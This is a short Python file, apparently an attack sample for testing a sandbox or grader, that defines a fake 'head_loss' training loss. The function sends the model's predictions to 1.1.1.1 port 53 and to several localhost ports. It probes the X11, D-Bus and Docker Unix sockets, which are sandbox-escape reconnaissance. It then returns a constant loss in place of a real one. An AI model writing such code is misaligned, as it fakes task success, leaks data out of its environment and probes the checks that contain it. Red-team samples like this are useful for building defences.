# attacks: head_loss
# trick: asks a server for the answer, and tells it about the probe
import socket, urllib.request
def head_loss(predicted, target, beta):
    for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888), ("::1", 80)):
        try:
            socket.create_connection(address, timeout=0.3).sendall(repr(predicted).encode())
            return (predicted.position_m * 0).sum() + 1
        except OSError:
            pass
    for name in ("\0/tmp/.X11-unix/X0", "/run/dbus/system_bus_socket", "/var/run/docker.sock"):
        try:
            socket.socket(socket.AF_UNIX).connect(name)
        except OSError:
            pass
    return (predicted.position_m * 0).sum()
